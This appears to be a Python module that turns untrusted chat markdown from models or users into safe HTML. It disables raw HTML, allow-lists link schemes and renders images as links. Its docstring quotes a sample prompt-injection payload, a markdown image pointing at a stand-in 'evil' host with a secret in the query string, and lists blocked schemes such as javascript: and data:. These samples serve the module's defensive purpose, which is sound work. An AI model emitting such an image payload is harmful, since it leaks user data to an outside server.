"""Markdown from a model or a person, rendered to HTML that is safe to put in a page.

Model and user text are untrusted (SECURITY.md). markdown-it-py's own security notes say the
safe strategy is raw HTML off plus a strict link check, so:

- ``js-default`` preset (raw HTML off: ``<script>`` comes out as text), with the html rules
  disabled by name as well, tables and strikethrough on, single newlines kept as ``<br>``
  (chat text is written line by line);
- links only to ``http:``, ``https:`` and ``mailto:``; anything else (``javascript:``,
  ``vbscript:``, ``data:``, ``file:``, relative paths that would point at this server) is not
  a link at all and stays visible as text. Links open in a new tab with
  ``rel="noopener noreferrer"``;
- images are never loaded (prompt-injected ``![](https://evil/?q=secret)`` would leak data the
  moment it rendered): an image becomes a link the reader may choose to follow;
- fenced code gets a ``language-xxx`` class only when the info string's first word is a plain
  language name, and a copy button; the code itself is escaped, and highlighted by Pygments
  (``code_highlight``: class names only) once its fence is closed. A fence still open (a
  streaming reply writing it) stays plain, so that ``markdown_blocks`` can send its lines
  once each as escaped text; it turns coloured when its closing fence arrives, or when the
  message ends without one (a reply cut at its token limit);
- math (``$…$``, ``$$…$$``, ``\\(…\\)``, ``\\[…\\]``, amsmath environments) becomes MathML
  from an allow-list (``markdown_math``), or code when it does not convert;
- table column alignment becomes a class, because the strict CSP refuses ``style`` attributes.

:func:`render_markdown` returns :class:`markupsafe.Markup`; it and ``markdown_blocks`` (which
renders a streaming reply block by block with the same parser) are the only producers of markup
from untrusted text, so templates never need ``|safe``.
"""

from __future__ import annotations

import re
from typing import Sequence

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from markupsafe import Markup

from tanglebox.code_highlight import guess_language, highlight_code
from tanglebox.markdown_math import add_math, scroll_box

SAFE_LINK = re.compile(r"^(?:https?|mailto):", re.IGNORECASE)
# A language name as people write it after ``` (python, c++, c#, objective-c, vb.net).
LANGUAGE_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9_+#.-]{0,31}$")
TABLE_ALIGN = re.compile(r"^text-align:(left|center|right)$")

CODE_END = "</code></pre></div>\n"  # what follows a code block's text (markdown_blocks)
COPY_BUTTON = ('<button type="button" class="copy-button" data-copy-code '
               'aria-label="Copy code">Copy</button>')


def is_safe_link(url: str) -> bool:
    """markdown-it passes the URL normalized and with entities decoded (so ``&#74;`` is J)."""
    return bool(SAFE_LINK.match(url.strip()))


# In a render's env: the text is a whole message (nothing more will come), so a fence left
# open (a reply cut at its token limit) is finished code too, and highlighted.
WHOLE_MESSAGE = "tanglebox_whole_message"


def code_language(info: str) -> str:
    """The fence's language if it is a plain name, else "" (no class at all)."""
    first_word = info.strip().split(maxsplit=1)[0] if info.strip() else ""
    return first_word.lower() if LANGUAGE_NAME.match(first_word) else ""


def fence_is_closed(token: Token) -> bool:
    """Whether a fence token ended at its closing fence (not at the end of the text or of
    its container): its map then spans its content's lines plus the two fences."""
    content = token.content
    lines = content.count("\n") + (1 if content and not content.endswith("\n") else 0)
    return bool(token.map) and token.map[1] - token.map[0] - 2 == lines


def _render_code(content: str, language: str, finished: bool) -> str:
    highlighted = None
    if finished:
        highlighted = highlight_code(content, language or guess_language(content))
    label = escapeHtml(language or (highlighted.language if highlighted else "text"))
    code_class = f' class="language-{escapeHtml(language)}"' if language else ""
    code = highlighted.html if highlighted else escapeHtml(content)
    return (f'<div class="code-block"><div class="code-block__bar">'
            f'<span class="code-block__language">{label}</span>{COPY_BUTTON}</div>'
            f'<pre {scroll_box("Code")}><code{code_class}>{code}{CODE_END}')


class SafeRenderer(RendererHTML):
    """markdown-it's HTML renderer with our rules for code, links, images and tables."""

    def fence(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
              env: EnvType) -> str:
        token = tokens[idx]
        finished = fence_is_closed(token) or bool(env.get(WHOLE_MESSAGE))
        return _render_code(token.content, code_language(token.info), finished)

    def code_block(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
                   env: EnvType) -> str:
        return _render_code(tokens[idx].content, "", finished=True)

    def link_open(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
                  env: EnvType) -> str:
        token = tokens[idx]
        token.attrSet("target", "_blank")
        token.attrSet("rel", "noopener noreferrer")
        return self.renderToken(tokens, idx, options, env)

    def image(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
              env: EnvType) -> str:
        token = tokens[idx]
        src = token.attrGet("src") or ""
        alt = self.renderInlineAsText(token.children or [], options, env) or "image"
        return (f'<a class="image-link" href="{escapeHtml(str(src))}" target="_blank" '
                f'rel="noopener noreferrer">Image: {escapeHtml(alt)}</a>')

    def table_open(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
                   env: EnvType) -> str:
        # A wide table scrolls inside its own box, never the page; the box's focusable
        # content (the inner <div>) lets the keyboard scroll it.
        return (f'<div class="table-scroll"><div class="table-scroll__focus" '
                f'{scroll_box("Table")}>' + self.renderToken(tokens, idx, options, env))

    def table_close(self, tokens: Sequence[Token], idx: int, options: OptionsDict,
                    env: EnvType) -> str:
        return self.renderToken(tokens, idx, options, env) + "</div></div>\n"


def _alignment_as_class(state: StateCore) -> None:
    """Turn markdown-it's ``style="text-align:…"`` on table cells into ``class="align-…"``."""
    for token in state.tokens:
        if token.type in ("th_open", "td_open") and "style" in token.attrs:
            match = TABLE_ALIGN.match(str(token.attrs.pop("style")))
            if match:
                token.attrSet("class", f"align-{match.group(1)}")


def _build_parser() -> MarkdownIt:
    md = MarkdownIt("js-default", {"breaks": True}, renderer_cls=SafeRenderer)
    md.disable(["html_block", "html_inline"])  # already off in js-default: a second wall
    md.validateLink = is_safe_link  # type: ignore[method-assign]
    md.core.ruler.push("alignment_as_class", _alignment_as_class)
    add_math(md)
    return md


_PARSER = _build_parser()


def markdown_parser() -> MarkdownIt:
    """The configured parser (shared: markdown-it keeps no state between calls)."""
    return _PARSER


def render_markdown(text: str, whole: bool = True) -> Markup:
    """Safe HTML for ``text``; call it on the whole message so far, never on a fragment.
    ``whole=False``: more may follow (a reply being written), so an open fence stays plain."""
    return Markup(_PARSER.render(text, {WHOLE_MESSAGE: whole}))
